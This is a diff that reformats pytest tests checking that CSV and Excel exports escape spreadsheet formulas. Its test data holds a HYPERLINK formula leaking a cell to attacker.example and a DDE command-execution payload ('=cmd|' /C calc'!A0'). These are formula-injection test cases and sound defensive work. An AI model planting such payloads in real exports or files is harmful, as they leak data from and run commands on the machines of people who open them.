@@ -23,23 +23,42 @@ from tests.traceability.test_trace import DISTRIBUTION
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
-@pytest.mark.parametrize(("typed", "written"), [
-    ("=1+1", "'=1+1"), ("+31 20 555", "'+31 20 555"), ("-5", "-5"), ("-5+3", "'-5+3"), ("+7.5", "+7.5"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Hospital = good", "Hospital = good"), ("", ""), (-5, -5), (None, None),
-])
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+31 20 555", "'+31 20 555"),
+        ("-5", "-5"),
+        ("-5+3", "'-5+3"),
+        ("+7.5", "+7.5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("Hospital = good", "Hospital = good"),
+        ("", ""),
+        (-5, -5),
+        (None, None),
+    ],
+)
 def test_csv_cell_escapes_what_a_spreadsheet_would_evaluate(typed: Any, written: Any) -> None:
     assert csv_cell(typed) == written
 
 
 def _workbook_cells(content: bytes) -> dict[str, Any]:
     workbook = load_workbook(io.BytesIO(content))
-    return {str(cell.value): cell for sheet in workbook for row in sheet.iter_rows() for cell in row
-            if isinstance(cell.value, str)}
+    return {
+        str(cell.value): cell
+        for sheet in workbook
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
 
 
 @pytest.mark.django_db
 def test_trace_and_impact_workbooks_keep_a_formula_name_as_text(
-        tmp_path: Path, manager: User, make_user: Callable[..., User]) -> None:
+    tmp_path: Path, manager: User, make_user: Callable[..., User]
+) -> None:
     network()
     Party.objects.filter(code="HOSP").update(name=HYPERLINK)
     assert run_events(tmp_path, DISTRIBUTION).accepted
@@ -58,9 +77,16 @@ def test_trace_and_impact_workbooks_keep_a_formula_name_as_text(
 @pytest.mark.django_db
 def test_rejected_rows_csv_escapes_formulas(tmp_path: Path) -> None:
     path = tmp_path / "parties.csv"
-    path.write_text(f'party_code,party_name,party_type,country\n"=cmd|\' /C calc\'!A0","{HYPERLINK.replace(chr(34), chr(34) * 2)}",'
-                    "nonsense,CN\n", encoding="utf-8")
+    path.write_text(
+        f'party_code,party_name,party_type,country\n"=cmd|\' /C calc\'!A0","{HYPERLINK.replace(chr(34), chr(34) * 2)}",'
+        "nonsense,CN\n",
+        encoding="utf-8",
+    )
     outcome = PartyImporter().run(path, file_name="parties.csv")
     assert not outcome.accepted
-    rows = list(csv.reader(io.StringIO(outcome.rejected_csv(("party_code", "party_name", "party_type", "country")))))
+    rows = list(
+        csv.reader(
+            io.StringIO(outcome.rejected_csv(("party_code", "party_name", "party_type", "country")))
+        )
+    )
     assert rows[1][:4] == ["'=cmd|' /C calc'!A0", "'" + HYPERLINK, "nonsense", "CN"]
